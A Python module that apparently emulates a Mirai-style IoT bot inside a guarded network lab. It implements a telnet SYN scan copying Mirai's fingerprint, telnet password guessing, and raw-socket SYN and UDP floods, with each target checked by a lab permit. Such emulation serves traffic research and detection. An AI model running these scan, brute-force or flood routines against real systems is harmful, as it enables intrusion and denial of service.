"""What the camera does once it is a bot: scan, guess passwords, flood. Runs only inside the lab (see `guard`).

    python -m lab.bot --state FILE scan | guess HOST | synflood HOST | udpflood HOST

Prints one JSON line: what it did, when it began and ended (s, UTC), how many packets or attempts.
"""

import argparse
import json
import random
import socket
import time
from collections.abc import Callable
from pathlib import Path
from typing import Any, Final

from lab import packets, plan
from lab.guard import Permit, obtain
from lab.telnet import attempt

SCAN_TARGETS: Final = 1_320
SCAN_RATE: Final = 120.0
SYN_PACKETS: Final = 3_000
SYN_RATE: Final = 400.0
UDP_PACKETS: Final = 2_100
UDP_RATE: Final = 350.0
UDP_PAYLOAD: Final = 32
GUESS_PAUSE: Final = 0.25  # s between two connections
SETTLE: Final = 1.0  # s for the last answers to arrive: they belong to the phase

Sender = Callable[[str, bytes], None]


def scan(permit: Permit, seed: int = 1) -> int:
    """Look for telnet servers the way Mirai does: one source port, every tenth SYN to 2323, its mark in each."""
    choice = random.Random(seed)
    send = _sender(permit)
    targets = scan_targets(choice)
    port = choice.randrange(1024, 65536)
    for i in permit.paced(len(targets), SCAN_RATE):
        packet = packets.syn(
            permit.source,
            targets[i],
            src_port=port,
            dst_port=2323 if i % 10 == 0 else 23,
            seq=packets.address_value(targets[i]),
            window=choice.getrandbits(16),
            ip_id=choice.getrandbits(16),
        )
        send(targets[i], packet)
    return len(targets)


def scan_targets(choice: random.Random) -> list[str]:
    """`SCAN_TARGETS` different addresses of the scanned range, the telnet servers among them, in random order."""
    others = [str(host) for host in plan.SCANNED if str(host) not in plan.TELNET_HOSTS]
    targets = choice.sample(others, SCAN_TARGETS - len(plan.TELNET_HOSTS))
    for host in plan.TELNET_HOSTS:
        at = choice.randrange(len(targets))
        targets.insert(at + (at % 10 == 0), host)  # not at a tenth place, which is probed on 2323
    return targets


def guess(permit: Permit, host: str) -> int:
    """Try one made-up password after another on a telnet server, one connection each, until one is right."""
    permit.check(host)
    tries = [*plan.GUESSES, plan.DVR_LOGIN] if host == plan.DVR.ip else list(plan.GUESSES)
    for done, (user, password) in enumerate(tries, 1):
        if attempt(host, user, password):
            return done
        time.sleep(GUESS_PAUSE)
    return len(tries)


def synflood(permit: Permit, host: str, seed: int = 2) -> int:
    """Connection requests to a web server, from random ports, never completed."""
    choice = random.Random(seed)
    send = _sender(permit)
    for _ in permit.paced(SYN_PACKETS, SYN_RATE):
        packet = packets.syn(
            permit.source,
            host,
            src_port=choice.randrange(1024, 65536),
            dst_port=80,
            seq=choice.getrandbits(32),
            window=choice.getrandbits(16),
            ip_id=choice.getrandbits(16),
        )
        send(host, packet)
    return SYN_PACKETS


def udpflood(permit: Permit, host: str, seed: int = 3) -> int:
    """Small packets of random bytes between random ports."""
    choice = random.Random(seed)
    send = _sender(permit)
    for _ in permit.paced(UDP_PACKETS, UDP_RATE):
        packet = packets.datagram(
            permit.source,
            host,
            src_port=choice.randrange(1024, 65536),
            dst_port=choice.randrange(1024, 65536),
            payload=choice.randbytes(UDP_PAYLOAD),
            ip_id=choice.getrandbits(16),
        )
        send(host, packet)
    return UDP_PACKETS


def _sender(permit: Permit) -> Sender:
    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)

    def send(target: str, packet: bytes) -> None:
        raw.sendto(packet, (permit.check(target), 0))

    return send


def main() -> None:
    parser = argparse.ArgumentParser(description="Emulates a bot, inside the lab of record.py only.")
    parser.add_argument("--state", type=Path, required=True, help="the file in which the lab notes its namespaces")
    parser.add_argument("phase", choices=["scan", "guess", "synflood", "udpflood"])
    parser.add_argument("host", nargs="?", default=plan.VICTIM_IP)
    arguments = parser.parse_args()
    permit = obtain(arguments.state)
    permit.check(arguments.host)
    actions: dict[str, Callable[[], int]] = {
        "scan": lambda: scan(permit),
        "guess": lambda: guess(permit, arguments.host),
        "synflood": lambda: synflood(permit, arguments.host),
        "udpflood": lambda: udpflood(permit, arguments.host),
    }
    done: dict[str, Any] = {"phase": arguments.phase, "start": time.time()}
    done["count"] = actions[arguments.phase]()
    time.sleep(SETTLE)
    done["end"] = time.time()
    print(json.dumps(done), flush=True)


if __name__ == "__main__":
    main()
